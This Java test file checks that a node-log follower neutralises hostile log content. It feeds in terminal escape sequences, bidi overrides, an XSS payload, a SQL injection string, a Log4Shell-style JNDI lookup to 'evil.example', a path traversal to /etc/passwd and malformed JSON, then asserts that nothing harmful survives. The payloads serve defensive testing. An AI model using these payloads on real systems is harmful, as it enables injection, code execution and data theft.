package vedette.history.truebit;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import java.io.ByteArrayOutputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardOpenOption;
import java.sql.Connection;
import java.sql.Statement;
import java.time.Duration;
import java.time.LocalDateTime;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.Random;
import org.junit.jupiter.api.Test;
import vedette.history.Database;
import vedette.poll.truebit.Finding;
import vedette.poll.truebit.Ledger;
import vedette.poll.truebit.LogEntry;
import vedette.poll.truebit.LogKind;

/// What somebody writes into a node's log who means harm.
class HostileLogTest extends FollowedNode {
  private static final Duration PATIENCE = Duration.ofMinutes(2);
  private static final String LAST = "the last entry";

  HostileLogTest() {
    super(10_000);
  }

  private void raw(byte[] bytes) throws Exception {
    Files.write(node.log("w.log"), bytes, StandardOpenOption.CREATE, StandardOpenOption.APPEND);
  }

  private List<LogRow> readAll() throws Exception {
    node.say("w.log", LAST).say("w.log", LAST);
    follower.start();
    await()
        .atMost(PATIENCE)
        .until(() ->
            reader.log(LogQuery.newest(2)).stream().filter(r -> r.text().equals(LAST)).count()
                == 2);
    assertThat(follower.state().trouble()).isEmpty();
    try (Connection connection = Database.reader(options.file());
        Statement statement = connection.createStatement();
        var row = statement.executeQuery("PRAGMA integrity_check")) {
      assertThat(row.next()).isTrue();
      assertThat(row.getString(1)).isEqualTo("ok");
    }
    return reader.log(LogQuery.newest(1_000));
  }

  private static void assertHarmless(String text) {
    assertThat(text.chars().filter(HostileLogTest::steers).mapToObj(Integer::toHexString))
        .isEmpty();
  }

  /// Characters that a terminal or a browser would obey.
  private static boolean steers(int c) {
    return (c < 0x20 && c != '\n' && c != '\t')
        || (c >= 0x7f && c < 0xa0)
        || (c >= 0x202a && c <= 0x202e)
        || (c >= 0x2066 && c <= 0x2069)
        || c == 0x200e
        || c == 0x200f
        || c == 0x2028
        || c == 0x2029;
  }

  @Test
  void whatWouldSteerATerminalOrABrowserIsKeptButObeyedByNobody() throws Exception {
    String[] lines = {
      "\u001b[2J\u001b[1;31mcleared\u001b[0m",
      "\u001b]0;title\u0007 and \u001b]8;;http://evil.example\u001b\\link\u001b]8;;\u001b\\",
      "\u001bP+q544e\u001b\\ \u001b_apc\u001b\\ \u009b31mC1",
      "bell \u0007 back \b\b\b null \u0000 del \u007f",
      "\u202emoc.live\u202c \u2066isolate\u2069 \u200fmark",
      "line\u2028separator\u2029paragraph",
      "carriage\rreturn\rover",
      "<img src=x onerror=alert(1)><script>alert(2)</script>",
      "'); DROP TABLE tasks; --",
      "%s%n%x {} ${jndi:ldap://evil.example/a}",
    };
    for (String line : lines) {
      node.say("w.log", line);
    }
    List<LogRow> rows = readAll();
    assertThat(rows).hasSize(lines.length + 2);
    rows.forEach(row -> assertHarmless(row.text()));
    assertThat(rows).extracting(LogRow::text).contains("cleared", lines[7], lines[8], lines[9]);
    assertThat(rows)
        .extracting(LogRow::text)
        .anyMatch(text -> text.contains("moc.live"))
        .anyMatch(text -> text.contains("carriage"));
  }

  @Test
  void bytesThatAreNoTextAreReplacedAndLoseNoOtherLine() throws Exception {
    Random random = new Random(7);
    for (int i = 0; i < 200; i++) {
      byte[] rubbish = new byte[random.nextInt(2_000)];
      random.nextBytes(rubbish);
      raw(rubbish);
      raw(new byte[] {'\n'});
      node.say("w.log", "good " + i);
    }
    List<LogRow> rows = readAll();
    rows.forEach(row -> assertHarmless(row.text()));
    for (int i = 0; i < 200; i++) {
      String good = "good " + i;
      assertThat(rows)
          .as(good)
          .anyMatch(row -> row.text().equals(good) || row.text().startsWith(good + "\n"));
    }
  }

  @Test
  void lineOfSixtyMegabytesAndManyLongOnesAreCutAndCounted() throws Exception {
    ByteArrayOutputStream huge = new ByteArrayOutputStream();
    huge.writeBytes(NodeTree.utf8(node.line("info", "huge ").stripTrailing()));
    byte[] piece = "x".repeat(1 << 20).getBytes(java.nio.charset.StandardCharsets.US_ASCII);
    for (int i = 0; i < 60; i++) {
      huge.writeBytes(piece);
    }
    huge.write('\n');
    raw(huge.toByteArray());
    String longer = "ö".repeat(200_000);
    for (int i = 0; i < 60; i++) {
      node.say("w.log", longer);
    }
    // An object that never ends holds nobody up.
    node.say("w.log", "Message received from task_created: " + "{\"a\":".repeat(5_000));
    List<LogRow> rows = readAll();
    LogRow first = rows.getLast();
    assertThat(first.text()).startsWith("huge").hasSizeLessThanOrEqualTo(LogParts.LONGEST);
    assertThat(first.cut()).isGreaterThan(60_000_000);
    assertThat(rows).hasSize(64);
    assertThat(rows).allMatch(row -> row.text().length() <= LogParts.LONGEST);
    assertThat(Database.bytes(options.file())).isLessThan(60 << 20);
  }

  @Test
  void jsonMadeToHurtMakesNoTaskAndNoNumber() throws Exception {
    String id = "11111111-2222-4333-8444-555555555555";
    String deep = "[".repeat(30_000) + "]".repeat(30_000);
    String[] objects = {
      "{\"executionId\":\"%s\",\"type\":\"task_created\",\"message\":{\"taskId\":%s}}"
          .formatted(id, deep),
      "{\"executionId\":\"../../etc/passwd\",\"type\":\"task_created\",\"message\":{}}",
      "{\"executionId\":\"<script>\",\"type\":\"task_created\",\"message\":{}}",
      "{\"executionId\":" + "9".repeat(5_000) + "}",
      "{\"executionId\":{\"executionId\":\"a\"}}",
      "{\"invoiceId\":\"i-1\",\"stepGasPrice\":1e999999999,\"lineItem\":[{\"operation\":\"pay\",\"account\":\"0x1\",\"total_steps_computed\":1e400000000}]}",
      "{\"invoiceId\":\"i-2\",\"lineItem\":"
          + "[{},".repeat(3_000)
          + "{}"
          + "]".repeat(3_000)
          + "}",
      "{\"" + "k".repeat(100_000) + "\":1}",
      "\"\\ud800\\udc00\\ud800\"",
    };
    for (String object : objects) {
      node.say("w.log", "Message received from task_created: " + object);
      node.say("w.log", "Command execution stdout: " + object);
      node.say("w.log", "InvoiceSubscriber got " + object);
    }
    Files.writeString(
        node.data.resolve("evil-eventDB.json"),
        "{\"records\":[" + String.join(",", objects[1], objects[5]) + "," + deep + "]}");
    readAllWithTroubleOfData();
    for (TaskRow task : reader.tasks(Optional.empty(), 1_000, 0)) {
      assertThat(task.executionId()).matches("[A-Za-z0-9][A-Za-z0-9_./:-]{0,199}");
      assertThat(task.taskId()).isEmpty();
    }
    assertThat(reader.invoices(Optional.empty(), 10, 0))
        .allSatisfy(invoice -> {
          assertThat(invoice.price()).isEmpty();
          assertThat(invoice.lines()).allMatch(line -> line.amount().isEmpty());
        });
    assertThat(store.state(NodeTree.NOW).tasks().values().stream().mapToLong(n -> n).sum())
        .isLessThanOrEqualTo(objects.length);
  }

  private void readAllWithTroubleOfData() throws Exception {
    node.say("w.log", LAST).say("w.log", LAST);
    follower.start();
    await()
        .atMost(PATIENCE)
        .until(() ->
            reader.log(LogQuery.newest(2)).stream().filter(r -> r.text().equals(LAST)).count()
                == 2);
    await().atMost(PATIENCE).until(() -> !follower.state().trouble().isEmpty());
    assertThat(follower.state().trouble()).startsWith("evil-eventDB.json: expected");
  }

  /// Names of files are whose the node's are.
  @Test
  void aFilesNameInASentenceSteersNothing() throws Exception {
    Path evil = node.data.resolve("\u001b[31m\u202ex-eventDB.json");
    Files.writeString(evil, "no json");
    follower.start();
    await().atMost(PATIENCE).until(() -> !follower.state().trouble().isEmpty());
    assertHarmless(follower.state().trouble());
  }

  @Test
  void headsWithoutEndAreKeptWithoutThem() {
    List<Ledger.Kept> entries = new ArrayList<>();
    for (int i = 0; i < LogParts.MOST_HEADS + 50; i++) {
      entries.add(
          new Ledger.Kept(
              new LogEntry(
                  Optional.of(LocalDateTime.of(2025, 12, 17, 9, 0)),
                  "info",
                  "@truebit/w",
                  "",
                  "1.0." + i,
                  "entry " + i,
                  1,
                  0),
              new Finding.Other(LogKind.INFO)));
    }
    store.commit(new Ledger.Batch(new Ledger.Source(0, "w", 1, "a", 1, "", 0), entries));
    List<LogRow> newest = reader.log(LogQuery.newest(100));
    assertThat(newest).extracting(LogRow::text).contains("entry " + (LogParts.MOST_HEADS + 49));
    assertThat(newest.getFirst().version()).isEmpty();
    assertThat(newest.getLast().version()).isEqualTo("1.0." + (LogParts.MOST_HEADS - 50));
  }
}
